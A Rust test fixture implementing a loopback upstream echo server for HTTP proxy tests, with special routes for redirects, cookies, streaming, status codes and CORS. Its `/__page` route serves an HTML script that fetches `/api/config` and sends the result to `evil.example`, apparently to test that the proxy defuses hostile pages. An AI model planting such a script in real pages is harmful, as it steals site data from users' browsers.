//! A loopback upstream API for proxy tests. Every path echoes the request it received as
//! JSON (method, raw path, raw query, headers, body size), except a few special ones:
//!
//! - `/__redirect` → 302 to `/__redirected` (whose hits are counted separately);
//! - `/__cookie` → 200 with `Set-Cookie` and a `Connection`-named hop-by-hop header;
//! - `/__big/<n>` → `n` bytes, streamed in 64 KiB chunks without a length;
//! - `/__status/<code>` → that status (JSON body); `/__text_status/<code>` → that status
//!   with a plain-text body;
//! - `/__slow` → headers at once, then 3 chunks 100 ms apart;
//! - `/__drip/<n>/<gap_ms>/<stall_ms>` → headers at once, `n` chunks each after
//!   `gap_ms`, then `end` after `stall_ms`;
//! - `/__redirect_query` → 301 to `/moved/?<the request's query>` (as a trailing-slash
//!   normaliser would); `/__redirect_requoted` → 301 with the query re-encoded the way
//!   other servers write it (lower-case percent-hex, `/` left unescaped);
//! - `/__sized/<n>` → `n` bytes with a `Content-Length`;
//! - `/__cors` → 200 with the CORS headers a public API sends (`Access-Control-Allow-Origin:
//!   *` and friends), as GitHub's does;
//! - `/__page` → an HTML page with a script, and the headers that would act on the whole
//!   origin (its own `Content-Security-Policy`, `Service-Worker-Allowed`, HSTS,
//!   `Clear-Site-Data`).
//!
//! Bearer tokens made to expire ([`Counters::expiry`]) are refused with a 401.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use axum::body::{Body, Bytes};
use axum::extract::{Request, State};
use axum::http::{HeaderValue, StatusCode};
use axum::response::{IntoResponse, Response};
use futures_util::StreamExt;
use http_body_util::BodyExt;
use serde_json::json;

#[derive(Default)]
pub struct Counters {
    pub hits: AtomicUsize,
    pub redirected_hits: AtomicUsize,
    /// Refuses bearer tokens once they are made to expire (nothing expires by itself).
    pub expiry: crate::expiry::TokenExpiry,
}

pub struct Upstream {
    pub addr: SocketAddr,
    pub counters: Arc<Counters>,
    task: tokio::task::JoinHandle<()>,
}

impl Upstream {
    pub async fn start() -> Upstream {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind");
        let addr = listener.local_addr().expect("addr");
        let counters = Arc::new(Counters::default());
        let app = axum::Router::new()
            .fallback(handle)
            .with_state(counters.clone());
        let task = tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Upstream {
            addr,
            counters,
            task,
        }
    }

    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    pub fn hits(&self) -> usize {
        self.counters.hits.load(Ordering::SeqCst)
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.task.abort();
    }
}

async fn handle(State(c): State<Arc<Counters>>, req: Request) -> Response {
    c.hits.fetch_add(1, Ordering::SeqCst);
    let authorization = req
        .headers()
        .get("authorization")
        .and_then(|v| v.to_str().ok());
    if !c.expiry.admit(authorization) {
        return crate::expiry::TokenExpiry::refusal();
    }
    let path = req.uri().path().to_owned();
    if path == "/__redirect" {
        return Response::builder()
            .status(StatusCode::FOUND)
            .header("location", "/__redirected")
            .body(Body::empty())
            .expect("response");
    }
    if path == "/__redirect_query" {
        let q = req.uri().query().unwrap_or_default();
        return Response::builder()
            .status(StatusCode::MOVED_PERMANENTLY)
            .header("location", format!("/moved/?{q}"))
            .header("content-location", format!("/moved/?{q}"))
            .header("x-kept", "yes")
            .body(Body::empty())
            .expect("response");
    }
    if let Some(n) = path
        .strip_prefix("/__sized/")
        .and_then(|n| n.parse::<usize>().ok())
    {
        return Response::new(Body::from(vec![b'z'; n]));
    }
    if path == "/__cors" {
        return Response::builder()
            .header("access-control-allow-origin", "*")
            .header("access-control-allow-credentials", "true")
            .header("access-control-expose-headers", "x-kept")
            .header("timing-allow-origin", "*")
            .header("x-kept", "yes")
            .body(Body::from("cors"))
            .expect("response");
    }
    if path == "/__page" {
        return Response::builder()
            .header("content-type", "text/html")
            .header("content-security-policy", "script-src *")
            .header("service-worker-allowed", "/")
            .header("strict-transport-security", "max-age=31536000")
            .header("clear-site-data", "\"*\"")
            .body(Body::from(
                "<script>fetch('/api/config').then(r => r.text()).then(t => fetch('http://evil.example/?' + t))</script>",
            ))
            .expect("response");
    }
    if path == "/__redirected" {
        c.redirected_hits.fetch_add(1, Ordering::SeqCst);
    }
    if path == "/__cookie" {
        return Response::builder()
            .header("set-cookie", "session=upstream-secret; HttpOnly")
            .header("connection", "x-hop-header")
            .header("x-hop-header", "1")
            .header("x-kept", "yes")
            .body(Body::from("cookie"))
            .expect("response");
    }
    if let Some(n) = path
        .strip_prefix("/__big/")
        .and_then(|n| n.parse::<usize>().ok())
    {
        let chunk = Bytes::from(vec![b'x'; 64 * 1024]);
        let full = n / chunk.len();
        let rest = n % chunk.len();
        let stream = futures_util::stream::iter((0..full).map(move |_| chunk.clone()))
            .chain(futures_util::stream::iter(std::iter::once(Bytes::from(
                vec![b'x'; rest],
            ))))
            .map(Ok::<_, std::io::Error>);
        return Response::new(Body::from_stream(stream));
    }
    if let Some(code) = path
        .strip_prefix("/__status/")
        .and_then(|n| n.parse::<u16>().ok())
    {
        let status = StatusCode::from_u16(code).unwrap_or(StatusCode::IM_A_TEAPOT);
        return (status, axum::Json(json!({"status": code}))).into_response();
    }
    if path == "/__redirect_requoted" {
        let q = req.uri().query().unwrap_or_default();
        let decoded: String = url::form_urlencoded::parse(q.as_bytes())
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("&");
        let requoted: String = decoded
            .bytes()
            .map(|b| match b {
                b'/' | b'=' | b'&' => (b as char).to_string(),
                b if b.is_ascii_alphanumeric() => (b as char).to_string(),
                b => format!("%{b:02x}"),
            })
            .collect();
        return Response::builder()
            .status(StatusCode::MOVED_PERMANENTLY)
            .header("location", format!("/moved/?{requoted}"))
            .header("x-kept", "yes")
            .body(Body::empty())
            .expect("response");
    }
    if let Some(code) = path
        .strip_prefix("/__text_status/")
        .and_then(|n| n.parse::<u16>().ok())
    {
        let status = StatusCode::from_u16(code).unwrap_or(StatusCode::IM_A_TEAPOT);
        return (status, format!("upstream says {code}")).into_response();
    }
    if let Some(spec) = path.strip_prefix("/__drip/") {
        return drip(spec);
    }
    if path == "/__slow" {
        let stream = futures_util::stream::iter(0..3).then(|i| async move {
            tokio::time::sleep(Duration::from_millis(100)).await;
            Ok::<_, std::io::Error>(Bytes::from(format!("chunk{i};")))
        });
        return Response::new(Body::from_stream(stream));
    }
    echo(req).await
}

/// `/__drip/<n>/<gap_ms>/<stall_ms>`: headers at once, then `n` chunks `dripN;` each
/// after `gap_ms`, then `end` after `stall_ms` (no length: chunked).
fn drip(spec: &str) -> Response {
    let nums: Vec<u64> = spec.split('/').filter_map(|n| n.parse().ok()).collect();
    let [n, gap, stall] = nums[..] else {
        return (StatusCode::BAD_REQUEST, "/__drip/<n>/<gap_ms>/<stall_ms>").into_response();
    };
    let chunks = futures_util::stream::iter(0..n).then(move |i| async move {
        tokio::time::sleep(Duration::from_millis(gap)).await;
        Ok::<_, std::io::Error>(Bytes::from(format!("drip{i};")))
    });
    let end = futures_util::stream::once(async move {
        tokio::time::sleep(Duration::from_millis(stall)).await;
        Ok::<_, std::io::Error>(Bytes::from_static(b"end"))
    });
    Response::new(Body::from_stream(chunks.chain(end)))
}

async fn echo(req: Request) -> Response {
    let (parts, body) = req.into_parts();
    let bytes = body
        .collect()
        .await
        .map(|b| b.to_bytes())
        .unwrap_or_default();
    let mut headers = serde_json::Map::new();
    for (k, v) in &parts.headers {
        let entry = headers
            .entry(k.as_str().to_owned())
            .or_insert_with(|| json!([]));
        if let Some(list) = entry.as_array_mut() {
            list.push(json!(v.to_str().unwrap_or("<binary>")));
        }
    }
    let body_text = if bytes.len() <= 4096 {
        String::from_utf8_lossy(&bytes).into_owned()
    } else {
        String::new()
    };
    let mut resp = axum::Json(json!({
        "method": parts.method.as_str(),
        "path": parts.uri.path(),
        "query": parts.uri.query(),
        "headers": headers,
        "body_len": bytes.len(),
        "body": body_text,
    }))
    .into_response();
    resp.headers_mut()
        .insert("x-upstream", HeaderValue::from_static("echo"));
    resp
}
